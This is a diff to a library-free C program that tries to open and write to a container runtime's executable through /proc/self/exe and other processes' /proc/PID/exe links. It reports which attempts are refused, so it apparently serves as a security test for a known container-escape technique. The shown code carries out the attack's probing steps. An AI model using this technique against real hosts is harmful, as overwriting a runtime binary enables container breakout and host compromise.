@@ -1,8 +1,8 @@
 /* Tries to reach the runtime's executable through /proc/PID/exe, and to write to it, without any library.
  *
  *   reach self            open /proc/self/exe for writing, in every way
- *   reach hunt DEV INO N  look at /proc/PID/exe of all processes, keep what has that device's inode, and try to write to it
- *                         all the time, until N of its own rounds are over; then print what was refused
+ *   reach hunt DEV INO    look at /proc/PID/exe of all processes, keep what is that inode of that device, and try to write
+ *                         to it all the time, until there is a file /tmp/stop; then print what was refused
  *
  * The program also serves as the dynamic loader of an image: then the runtime's own executable is what runs.
  * Output: one line a kind of attempt, "NAME ERRNO COUNT"; ERRNO 0 means that it was possible. */
@@ -13,7 +13,8 @@
 
 #define KINDS 4
 #define ERRORS 134
-#define KEPT 256
+#define KEPT 16
+#define LAST_PID 200
 
 /* No pointers: nobody relocates this program. */
 static const char names[KINDS][12] = {"look", "self", "descriptor", "truncate"};
@@ -95,12 +96,12 @@ static void report(void)
             }
 }
 
-static void hunt(unsigned long device, unsigned long inode, unsigned long rounds)
+static void hunt(unsigned long device, unsigned long inode)
 {
     static long kept[KEPT];
     int count = 0;
-    for (unsigned long round = 0; round < rounds; round++) {
-        for (unsigned long pid = 1; pid < 400 && count < KEPT; pid++) {
+    while (call(__NR_access, (long)"/tmp/stop", 0, 0, 0) < 0) {
+        for (unsigned long pid = 1; pid < LAST_PID && count < KEPT; pid++) {
             char path[64] = "/proc/";
             number(pid, path + 6);
             int end = 6;
@@ -131,9 +132,9 @@ __attribute__((used)) void begin(long *stack)
 {
     long argc = stack[0];
     char **argv = (char **)(stack + 1);
-    if (argc >= 5 && argv[1][0] == 'h') {
+    if (argc >= 4 && argv[1][0] == 'h') {
         say("hunting\n");
-        hunt(parse(argv[2]), parse(argv[3]), parse(argv[4]));
+        hunt(parse(argv[2]), parse(argv[3]));
     } else {
         attack(1, "/proc/self/exe");
         long fd = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH | O_CLOEXEC, 0);
